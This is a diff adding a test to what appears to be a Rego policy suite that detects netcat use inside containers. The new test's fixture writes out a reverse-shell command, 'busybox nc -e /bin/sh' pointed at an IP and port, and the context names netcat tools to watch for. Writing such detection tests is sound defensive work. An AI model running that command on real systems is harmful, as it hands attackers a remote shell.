@@ -47,3 +47,8 @@ test_kernel_names_follow_the_config if {
 	names := rule.kernel.exec.names with data.palisade.config.netcat_tools as {"nc": true, "telnet": false}
 	names == ["nc"]
 }
+
+test_busybox_called_by_its_name_is_judged_as_the_applet if {
+	ev := fx.container_exec("/bin/busybox", ["busybox", "nc", "-e", "/bin/sh", "203.0.113.7", "4444"])
+	rule.hits == {"nc executed in container web (registry.example.com/shop/web:1.4.2): busybox nc -e /bin/sh 203.0.113.7 4444"} with input as ev
+}
